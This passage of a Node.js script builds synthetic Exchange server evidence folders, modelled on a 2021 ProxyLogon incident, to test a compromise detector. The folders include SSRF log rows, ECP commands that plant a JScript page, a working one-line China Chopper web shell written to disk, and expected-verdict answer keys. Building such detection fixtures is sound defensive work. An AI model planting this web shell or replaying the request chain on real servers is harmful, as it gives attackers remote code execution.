  ['2021-03-03T06:49:46.210Z', 'mail', 'py', '/ecp/proxyLogon.ecp?#', '241'],
  ['2021-03-03T06:49:51.543Z', 'mail', 'py', `/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=${HELSE.canary1}&schema=OABVirtualDirectory#`, '200'],
  ['2021-03-03T06:59:10.817Z', 'autodiscover', 'ews', '/autodiscover/autodiscover.xml?#', '200'],
  ['2021-03-03T06:59:11.840Z', 'autodiscover', 'py', '/mapi/emsmdb/?#', '200'],
  ['2021-03-03T06:59:13.030Z', 'autodiscover', 'py', '/ecp/proxyLogon.ecp?#', '241'],
  ['2021-03-03T06:59:14.588Z', 'autodiscover', 'py', `/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=${HELSE.canary2}&schema=OABVirtualDirectory#`, '200'],
  ['2021-03-03T06:59:18.042Z', 'autodiscover', 'py', `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${HELSE.canary2}&schema=OABVirtualDirectory#`, '200'],
  ['2021-03-03T06:59:20.359Z', 'autodiscover', 'py', `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${HELSE.canary2}&schema=ResetOABVirtualDirectory#`, '200'],
  ['2021-03-03T06:59:23.288Z', 'autodiscover', 'py', `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${HELSE.canary2}&schema=OABVirtualDirectory#`, '200'],
];

function helseHttpProxy(srv, rng) {
  return HELSE_ROWS.map(([time, hostKind, ua, path, status]) => {
    const t = at(time);
    const total = rng.int(40, 400);
    return {
      protocol: 'Ecp',
      t,
      line: hpRow(srv, {
        DateTime: time,
        RequestId: rng.guid(),
        Protocol: 'Ecp',
        UrlHost: hostKind === 'mail' ? srv.publicHost : srv.autodiscoverHost,
        UrlStem: '/ecp/y.js',
        AuthenticationType: '',
        IsAuthenticated: 'false',
        AnchorMailbox: `ServerInfo~a]@${srv.fqdn}:444${path}`,
        UserAgent: ua === 'ews' ? 'ExchangeServicesClient/0.0.0.0' : 'python-requests/2.25.1',
        ClientIpAddress: HELSE.attacker,
        ServerHostName: srv.name,
        HttpStatus: status,
        BackEndStatus: status,
        Method: 'POST',
        ProxyAction: 'Proxy',
        TargetServer: srv.fqdn,
        TargetServerVersion: srv.tsv,
        RoutingType: 'IntraForest',
        RoutingHint: 'X-BEResource-Cookie',
        RequestBytes: String(rng.int(0, 900)),
        ResponseBytes: String(rng.int(100, 4000)),
        ...latencies(total, rng),
        GenericInfo: proxiedInfo(t - total, t, `NewConnection=${HELSE.attacker}&0;`),
        RoutingStatus: 'CafeV1',
      }),
    };
  });
}

/** The HelseCERT ECP Server lines (timestamp + S:CMD + S:EX real), padded to the full EventData bag. */
function helseEcp(srv, rng) {
  const u = (canary, schema, op = 'SetObject') => `/ecp/DDI/DDIService.svc/${op}?msExchEcpCanary=${canary}&schema=${schema}`;
  const sid = rng.guid();
  const dn = `CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=${srv.name},CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=${srv.org},CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=example,DC=org`;
  const notFound = `Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory operation failed on ${srv.dc}. The object '${dn}' does not exist.\\r\\n\\r\\nThe object does not exist.\\r\\n`;
  const set = (id) => `Set-OabVirtualDirectory.ExternalUrl='http://f/${HELSE.script}'.Identity='${id}'`;
  const rows = [
    ['2021-03-03T06:49:51.389Z', 'Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null', u(HELSE.canary1, 'OABVirtualDirectory', 'GetObject')],
    ['2021-03-03T06:49:51.497Z', 'Pipeline.1|Get-MailboxRegionalConfiguration', u(HELSE.canary1, 'OABVirtualDirectory', 'GetObject')],
    ['2021-03-03T06:49:53.772Z', set(HELSE.vdir1), u(HELSE.canary1, 'OABVirtualDirectory')],
    ['2021-03-03T06:49:53.834Z', `Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='${HELSE.vdir1}'`, u(HELSE.canary1, 'OABVirtualDirectory')],
    ['2021-03-03T06:49:58.284Z', `Get-OABVirtualDirectory.Identity='${HELSE.vdir1}'`, u(HELSE.canary1, 'ResetOABVirtualDirectory')],
    ['2021-03-03T06:49:58.420Z', `Get-ExchangeServer.Identity='${srv.name.toLowerCase()}'`, u(HELSE.canary1, 'ResetOABVirtualDirectory')],
    ['2021-03-03T06:49:58.835Z', `Set-OabVirtualDirectory.ExternalUrl=$null.Identity='${HELSE.vdir1}'`, u(HELSE.canary1, 'ResetOABVirtualDirectory'), notFound],
    ['2021-03-03T06:50:00.717Z', `Remove-OABVirtualDirectory.Force=$true.Identity='${srv.name.toLowerCase()}\\OAB (Default Web Site)'`, u(HELSE.canary1, 'ResetOABVirtualDirectory')],
    [
      '2021-03-03T06:50:08.396Z',
      `New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='${srv.name.toLowerCase()}'.Role='ClientAccess'.InternalURL='https://${srv.fqdn.toLowerCase()}/OAB'.Path='C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB'`,
      u(HELSE.canary1, 'ResetOABVirtualDirectory'),
    ],
    ['2021-03-03T06:50:08.441Z', `Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='${srv.name.toLowerCase()}\\OAB (Default Web Site)'`, u(HELSE.canary1, 'ResetOABVirtualDirectory')],
    ['2021-03-03T06:59:14.518Z', 'Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null', u(HELSE.canary2, 'OABVirtualDirectory', 'GetObject')],
    ['2021-03-03T06:59:14.571Z', 'Pipeline.1|Get-MailboxRegionalConfiguration', u(HELSE.canary2, 'OABVirtualDirectory', 'GetObject')],
    ['2021-03-03T06:59:17.960Z', set(HELSE.vdir2), u(HELSE.canary2, 'OABVirtualDirectory')],
    ['2021-03-03T06:59:18.021Z', `Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='${HELSE.vdir2}'`, u(HELSE.canary2, 'OABVirtualDirectory')],
    ['2021-03-03T06:59:21.512Z', `Get-OABVirtualDirectory.Identity='${HELSE.vdir2}'`, u(HELSE.canary2, 'ResetOABVirtualDirectory')],
    ['2021-03-03T06:59:23.212Z', `Set-OabVirtualDirectory.ExternalUrl=$null.Identity='${HELSE.vdir2}'`, u(HELSE.canary2, 'OABVirtualDirectory')],
    ['2021-03-03T06:59:23.262Z', `Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='${HELSE.vdir2}'`, u(HELSE.canary2, 'OABVirtualDirectory')],
  ];
  return rows.map(([time, cmd, url, ex]) => ({ t: at(time), line: ecpRow(srv, at(time), rng, { cmd, url, ex: ex ?? '', sid }) }));
}

/** The OAB-config dump a CVE-2021-27065 reset writes (layout of the zer010bs response body, script restored). */
function oabShellBody(srv) {
  const pad = (k) => k.padEnd(32, ' ');
  const lines = [
    '',
    `${pad('Name')}: OAB (Default Web Site)`,
    `${pad('PollInterval')}: 480`,
    `${pad('OfflineAddressBooks')}: `,
    `${pad('RequireSSL')}: True`,
    `${pad('BasicAuthentication')}: False`,
    `${pad('WindowsAuthentication')}: True`,
    `${pad('OAuthAuthentication')}: False`,
    `${pad('MetabasePath')}: IIS://${srv.fqdn}/W3SVC/1/ROOT/OAB`,
    `${pad('Path')}: C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB`,
    `${pad('ExtendedProtectionTokenChecking')}: None`,
    `${pad('ExtendedProtectionFlags')}: `,
    `${pad('ExtendedProtectionSPNList')}: `,
    `${pad('AdminDisplayVersion')}: Version 15.1 (Build 2176.2)`,
    `${pad('Server')}: ${srv.name}`,
    `${pad('InternalUrl')}: https://${srv.fqdn.toLowerCase()}/OAB`,
    `${pad('InternalAuthenticationMethods')}: WindowsIntegrated`,
    `${pad('ExternalUrl')}: http://f/${HELSE.script}`,
    `${pad('ExternalAuthenticationMethods')}: WindowsIntegrated`,
    `${pad('AdminDisplayName')}: `,
    `${pad('ExchangeVersion')}: 0.10 (14.0.100.0)`,
    `${pad('DistinguishedName')}: CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=${srv.name},CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=${srv.org},CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=example,DC=org`,
    `${pad('Identity')}: ${srv.name}\\OAB (Default Web Site)`,
    `${pad('Guid')}: ${HELSE.vdir2}`,
    `${pad('ObjectCategory')}: corp.example.org/Configuration/Schema/ms-Exch-OAB-Virtual-Directory`,
    `${pad('ObjectClass')}: top`,
    `${pad('')}  msExchVirtualDirectory`,
    `${pad('')}  msExchOABVirtualDirectory`,
    `${pad('WhenChanged')}: 3/3/2021 7:59:17 AM`,
    `${pad('WhenCreated')}: 3/3/2021 7:50:08 AM`,
    `${pad('WhenChangedUTC')}: 3/3/2021 6:59:17 AM`,
    `${pad('WhenCreatedUTC')}: 3/3/2021 6:50:08 AM`,
    `${pad('OrganizationId')}: `,
    `${pad('Id')}: ${srv.name}\\OAB (Default Web Site)`,
    `${pad('OriginatingServer')}: ${srv.dc}`,
    `${pad('IsValid')}: True`,
    '',
    '',
  ];
  return lines.join(CRLF);
}

function mail01() {
  const host = 'mail01-compromised';
  const { rng, srv } = mailServer(1, '15.01.2176.002');
  // Background every other day from 2020-11-25; daily around the attack (IIS 2021-03-01..10).
  const bg = background(srv, rng, { from: '2020-11-25', to: '2021-02-27', httpEvery: 2, ecpEvery: 9, iisFrom: null });
  const late = background(srv, rng, { from: '2021-02-28', to: '2021-03-10', httpEvery: 1, ecpEvery: 3, iisEvery: 1, iisFrom: '2021-03-01', iisTo: '2021-03-10' });
  const hp = [...bg.hp, ...late.hp, ...helseHttpProxy(srv, rng)];
  const ecp = [...bg.ecp, ...late.ecp, ...helseEcp(srv, rng)];
  const iis = [...late.iis];

  // Benign rows in the attack hour, so the attack file is not attack-only.
  for (const [m, p] of [[12, 'Ecp'], [41, 'Ecp'], [3, 'Owa'], [33, 'Mapi']]) {
    const t = at('2021-03-03T06:00:00.000Z') + m * 60_000 + rng.int(0, 59_999);
    hp.push({ protocol: p, t, line: benignRow(srv, p, t, rng) });
  }
  // The ECP Server log of the attack day also has the day's ordinary rows.
  for (const h of [2, 9, 14]) {
    const t = at('2021-03-03T00:00:00.000Z') + h * 3_600_000 + rng.int(0, 3_599_999);
    ecp.push({ t, line: benignEcp(srv, t, rng) });
  }

  // CVE-2021-26858 file write reported by the OAB generator (synthetic line; no public sample of this log exists).
  const shellName = rng.alnum(8);
  const shellWin = `C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\${shellName}.aspx`;
  const oabLines = [
    '2021-03-03T07:02:40.611Z,OABGeneratorAssistant,Information,OAB generation started for OAB \\Default Offline Address Book',
    `2021-03-03T07:02:41.127Z,OABGeneratorAssistant,Warning,Download failed and temporary file '${shellWin}' needs to be removed`,
    '2021-03-03T07:02:41.190Z,OABGeneratorAssistant,Information,OAB generation completed for OAB \\Default Offline Address Book',
  ];
  put(`${host}/${EX}/Logging/OABGeneratorLog/OABGenerator_20210303-1.log`, crlf(oabLines));

  // Web-shell use in IIS W3SVC1: the real HelseCERT lines (s-ip anonymised there; ours here) and a China Chopper POST.
  const helseIis = [
    ['2021-03-05 03:06:27', HELSE.shellIps[0], 'cde28fc4-299e-4179-b3e9-de56f5c1d9ee', '65.0.2345', 200, 133],
    ['2021-03-05 08:11:58', HELSE.shellIps[0], '8c4553be-4082-4ea1-8872-bf21a831ee95', '65.0.2345', 200, 33],
    ['2021-03-06 17:27:45', HELSE.shellIps[1], '556e0901-7c69-4963-9e99-3ece666e792f', '88.0.4324.182', 200, 115],
    ['2021-03-06 17:27:45', HELSE.shellIps[1], '877637d6-03ba-4cc5-bc9d-f8ad7761b607', '88.0.4324.182', 200, 104],
    ['2021-03-06 17:27:45', HELSE.shellIps[1], '3ec7b8e9-65bf-4717-ac70-a7fc251cf3b2', '88.0.4324.182', 200, 101],
    ['2021-03-08 20:37:27', HELSE.shellIps[1], '3aef83a1-4149-4d14-aee4-8c18470818e0', '88.0.4324.182', 302, 112],
    ['2021-03-08 20:37:28', HELSE.shellIps[1], '01a0d5ce-e246-4189-bf77-b06807ff9f5c', '88.0.4324.182', 302, 101],
    ['2021-03-08 20:37:28', HELSE.shellIps[1], 'db511d6d-3a87-447c-bfdd-656cc48b722a', '88.0.4324.182', 302, 101],
  ];
  helseIis.forEach(([dt, ip, cafe, chrome, status, taken], i) => {
    const t = at(`${dt.replace(' ', 'T')}.${String(100 + i * 37).slice(0, 3)}Z`);
    const ua = `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome} Safari/537.36`;
    iis.push({ t, line: iisLine(t, srv, { method: 'GET', stem: '/owa/auth/RedirSuiteServerProxy.aspx', query: `&CorrelationID=<empty>;&cafeReqId=${cafe};&encoding=;`, cip: ip, ua, status, taken }) });
  });
  // The SSRF requests as the front-end IIS site logged them (derived from the HelseCERT HttpProxy rows).
  for (const [time, , ua, , status] of HELSE_ROWS) {
    const t = at(time);
    const agent = ua === 'ews' ? 'ExchangeServicesClient/0.0.0.0' : 'python-requests/2.25.1';
    iis.push({ t, line: iisLine(t, srv, { method: 'POST', stem: '/ecp/y.js', query: cafeQuery('', rng), cip: HELSE.attacker, ua: agent, status, taken: rng.int(40, 400) }) });
  }
  // China Chopper client POSTs to the aspnet_client shell (synthetic: attacker IP from the chain, AntSword's default UA).
  for (const [dt, taken] of [['2021-03-03T07:14:09.000Z', 312], ['2021-03-03T07:14:21.000Z', 1406], ['2021-03-04T01:52:37.000Z', 268]]) {
    const t = at(dt);
    iis.push({ t, line: iisLine(t, srv, { method: 'POST', stem: `/aspnet_client/system_web/${shellName}.aspx`, query: '', cip: HELSE.attacker, ua: 'Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)', status: 200, taken }) });
  }
  // The same shell accesses as the front end logs them in HttpProxy\Owa (HelseCERT's 139.162.202.236 extract).
  const helseOwa = [
    ['2021-03-05T03:06:27.696Z', 'RedirSuiteServerProxy.aspx', '65.0.2345', '200'],
    ['2021-03-05T08:11:58.846Z', 'RedirSuiteServerProxy.aspx', '65.0.2345', '200'],
    ['2021-03-09T02:55:13.675Z', 'OutlookEN.aspx', '65.0.2345', '302'],
    ['2021-03-09T03:26:21.089Z', 'TimeoutLogout.aspx', '65.0.2345', '302'],
    ['2021-03-09T06:44:39.999Z', 'TimeoutLogout.aspx', '87.0.1125', '302'],
  ];
  for (const [time, name, chrome, status] of helseOwa) {
    const t = at(time);
    const ua = hpUa(`Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome} Safari/537.36`);
    hp.push({ protocol: 'Owa', t, line: frontEndRow(srv, t, { RequestId: rng.guid(), UrlHost: srv.publicIp, UrlStem: `/owa/auth/${name}`, UserAgent: ua, ClientIpAddress: HELSE.shellIps[0], HttpStatus: status, Method: 'GET', noCookies: status === '302' }) });
  }

  // Scanner noise on other days: the Microsoft NSE x.js probe (2021-03-07, as in PR #125) and zgrab.
  hp.push(nseProbe(srv, at('2021-03-07T15:04:04.546Z'), '203.0.113.77', rng));
  hp.push(zgrab(srv, at('2021-01-19T11:47:32.435Z'), '198.51.100.201', rng));
  hp.push(zgrab(srv, at('2021-03-08T04:12:51.902Z'), '198.51.100.201', rng));

  writeHost(host, srv, { hp, ecp, iis });

  // Files on disk.
  put(`${host}/C/inetpub/wwwroot/aspnet_client/system_web/${shellName}.aspx`, oabShellBody(srv));
  put(`${host}/${EX}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx`, `<%@ Page Language="Jscript"%><%eval(Request.Item["orange"],"unsafe");%>${CRLF}`);
  return { shellName };
}

// ---- mail02-clean: patched, benign traffic only ----------------------------------------------------------------

function mail02() {
  const host = 'mail02-clean';
  const { rng, srv } = mailServer(2, PATCHED);
  const bg = background(srv, rng, { from: '2020-11-25', to: '2021-03-31', httpEvery: 2, ecpEvery: 7, iisEvery: 3 });
  const ecp = [...bg.ecp];
  // An administrator's ordinary URL change: a Set-*VirtualDirectory without markup must not be a finding.
  const t = at('2021-02-16T13:22:05.318Z');
  ecp.push({
    t,
    line: ecpRow(srv, t, rng, {
      cmd: `Set-OwaVirtualDirectory.ExternalUrl='https://mail.example.org/owa'.Identity='${rng.guid()}'`,
      url: `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${rng.alnum(43)}.&schema=OWAVirtualDirectory`,
    }),
  });
  writeHost(host, srv, { ...bg, ecp });
}

// ---- mail03-scanned: patched, only Internet scanners -----------------------------------------------------------

function mail03() {
  const host = 'mail03-scanned';
  const { rng, srv } = mailServer(3, PATCHED);
  const bg = background(srv, rng, { from: '2020-11-25', to: '2021-03-31', httpEvery: 4, ecpEvery: 14, iisEvery: 6 });
  const hp = [...bg.hp];
  for (const [time, ip] of [
    ['2021-03-07T15:04:04.546Z', '203.0.113.77'],
    ['2021-03-07T15:04:05.019Z', '203.0.113.77'],
    ['2021-03-11T02:41:17.802Z', '203.0.113.9'],
    ['2021-03-16T22:08:53.114Z', '198.51.100.66'],
  ])
    hp.push(nseProbe(srv, at(time), ip, rng));
  hp.push(burpCanary(srv, at('2021-03-12T09:31:44.270Z'), '203.0.113.200', rng));
  hp.push(zgrab(srv, at('2021-01-19T11:47:32.435Z'), '198.51.100.201', rng));
  hp.push(zgrab(srv, at('2021-03-21T18:05:10.007Z'), '198.51.100.201', rng));
  writeHost(host, srv, { ...bg, hp });
}

// ---- mail04-nologs: Exchange installed, logs gone --------------------------------------------------------------

function mail04() {
  const host = 'mail04-nologs';
  put(
    `${host}/${EX}/Bin/Microsoft.Exchange.Directory.TopologyService.exe.config`,
    crlf([
      '<?xml version="1.0" encoding="utf-8"?>',
      '<configuration>',
      '  <runtime>',
      '    <gcServer enabled="true" />',
      '    <generatePublisherEvidence enabled="false" />',
      '  </runtime>',
      '  <appSettings>',
      '    <add key="LogEnabled" value="true" />',
      '    <add key="LogPath" value="C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\ADTopology" />',
      '  </appSettings>',
      '</configuration>',
    ]),
  );
  put(
    `${host}/C/Windows/System32/inetsrv/config/applicationHost.config`,
    crlf([
      '<?xml version="1.0" encoding="UTF-8"?>',
      '<configuration>',
      '  <system.applicationHost>',
      '    <sites>',
      '      <site name="Default Web Site" id="1" serverAutoStart="true">',
      '        <application path="/" applicationPool="DefaultAppPool">',
      '          <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />',
      '        </application>',
      '        <application path="/owa" applicationPool="MSExchangeOWAAppPool">',
      '          <virtualDirectory path="/" physicalPath="C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa" />',
      '        </application>',
      '        <bindings>',
      '          <binding protocol="https" bindingInformation="*:443:" />',
      '        </bindings>',
      '        <logFile directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />',
      '      </site>',
      '      <site name="Exchange Back End" id="2" serverAutoStart="true">',
      '        <bindings>',
      '          <binding protocol="https" bindingInformation="*:444:" />',
      '        </bindings>',
      '      </site>',
      '    </sites>',
      '  </system.applicationHost>',
      '</configuration>',
    ]),
  );
  put(
    `${host}/C/inetpub/wwwroot/iisstart.htm`,
    crlf(['<!DOCTYPE html>', '<html>', '<head><meta charset="utf-8"><title>IIS Windows Server</title></head>', '<body><img src="iisstart.png" alt="IIS"></body>', '</html>']),
  );
  put(`${host}/README.md`, hostReadme(host));
}

// ---------------------------------------------------------------------------------------------------------------
// Per-host READMEs. They sit inside the evidence folders, so they name no indicator literally (no IP, no script,
// no log phrase): a scanner reading every file must not find the attack in the README. examples/README.md has them.

function hostReadme(host) {
  const common = [
    '',
    'Layout: a copy of the server\'s C: drive (`C/Program Files/Microsoft/Exchange Server/V15/...`, `C/inetpub/...`).',
    'Exchange logs use the exact header blocks and column layouts of the artefacts.help samples',
    '(Qazeer/artefacts.help, CC0 1.0): HttpProxy 74 columns, ECP Server `TimeStamp,ServerName,EventId,EventData`;',
    'IIS W3C files use the IIS 10 header and the 15 default fields (EVTX-ATTACK-SAMPLES `Tunna_rdp_tunnel_IIS.log`).',
    'CRLF line endings; `.LOG` upper case as Exchange writes it; one HttpProxy file per protocol and hour.',
    '',
    'Generated by `scripts/make-examples.mjs` (fixed seed, fixed dates). Do not edit by hand: re-run the script.',
    'Values, provenance and what each rule should say: `examples/README.md`.',
    '',
  ];
  const text = {
    'mail01-compromised': [
      '# mail01-compromised',
      '',
      'Exchange 2016 CU19 without the March 2021 security update (`#Version: 15.01.2176.002`), compromised on',
      '2021-03-03 through ProxyLogon (CVE-2021-26855 + CVE-2021-27065), then used through two web shells.',
      '',
      '- Synthetic background traffic 2020-11-25 → 2021-03-10: OWA, EWS, MAPI, ActiveSync, Autodiscover, ECP,',
      '  PowerShell and RPC/HTTP rows modelled on the artefacts.help rows (health probes, internal clients).',
      '- **Real** (HelseCERT, 2021 incident): the eleven HttpProxy\\Ecp SSRF rows of 2021-03-03 06:49–06:59 (client',
      '  address, URL stem, routing hint, user agents, back-end paths, ECP canaries, statuses), padded into full',
      '  74-column rows; the ECP Server commands of the same minutes (the OAB `ExternalUrl` set to a JScript page,',
      '  then the clean-up and re-creation), padded into the full EventData bag; the IIS W3SVC1 lines of the',
      '  look-alike shell `owa/auth/RedirSuiteServerProxy.aspx` (2021-03-05, -06: 200; 2021-03-08: 302) and the',
      '  HttpProxy\\Owa rows of the same shell. The server name, s-ip and request ids are ours.',
      '- **Synthetic**: an OABGeneratorLog line that writes an 8-character `.aspx` into `aspnet_client\\system_web`',
      '  (no public sample of that log exists), China Chopper POSTs to that file in IIS, the two shell files on disk',
      '  (the OAB-configuration dump in the layout of the zer010bs response body, with the HelseCERT script restored;',
      '  a one-line China Chopper page in `owa/auth`).',
      '- Scanner noise (real shapes): the Microsoft NSE `x.js` probe row of signature-base PR #125 (2021-03-07) and a',
      '  zgrab fetch of the eDiscovery export-tool manifest (artefacts.help).',
      '',
      'Expected verdict: **compromised**.',
    ],
    'mail02-clean': [
      '# mail02-clean',
      '',
      'Exchange 2016 CU19 with the March 2021 security update (`#Version: 15.01.2176.009`). Synthetic benign traffic',
      'only, 2020-11-25 → 2021-03-31, in HttpProxy, ECP Server and IIS W3SVC1 logs, including an administrator\'s',
      'ordinary `Set-OwaVirtualDirectory` URL change (a normal URL, not a finding).',
      '',
      'The genuine `owa/auth` pages (`logon.aspx`, `errorFE.aspx`, ...) are not reproduced: they are Microsoft\'s',
      'files, and a copy whose hash is not in Microsoft\'s baselines would rightly be reported as modified.',
      '',
      'Expected verdict: **clean** (the HttpProxy\\Owa and IIS logs cover 2020-12-01 to the newest evidence).',
    ],
    'mail03-scanned': [
      '# mail03-scanned',
      '',
      'Exchange 2016 CU19 with the March 2021 security update (`#Version: 15.01.2176.009`). Sparse synthetic',
      'benign traffic 2020-11-25 → 2021-03-31 and Internet scanners only:',
      '',
      '- the Microsoft NSE `x.js` probe (signature-base PR #125 shape: a localhost SSRF target, HTTP 500),',
      '- an out-of-band SSRF test whose target is a Burp Collaborator host (HTTP 500),',
      '- zgrab reading the eDiscovery export-tool manifest (artefacts.help row).',
      '',
      'Expected verdict: **attempted** ("scanner probes only"), never compromised.',
    ],
    'mail04-nologs': [
      '# mail04-nologs',
      '',
      'An Exchange server copy without any log: a configuration file from `V15\\Bin`, the IIS',
      '`applicationHost.config` and the IIS start page. Nothing here can show or rule out an attack.',
      '',
      'Expected verdict: **insufficient-evidence**.',
    ],
  }[host];
  return [...text, ...common].join('\n');
}

// ---------------------------------------------------------------------------------------------------------------

mail01();
mail02();
mail03();
mail04();

rmSync(OUT, { recursive: true, force: true });
let total = 0;
for (const [rel, text] of [...files.entries()].sort(([a], [b]) => (a < b ? -1 : 1))) {
  const abs = join(OUT, rel);
  mkdirSync(dirname(abs), { recursive: true });
  const buf = Buffer.from(text, 'utf8');
  writeFileSync(abs, buf);
  total += buf.length;
}
console.log(`wrote ${files.size} files, ${(total / 1024).toFixed(0)} KiB, to ${OUT}`);
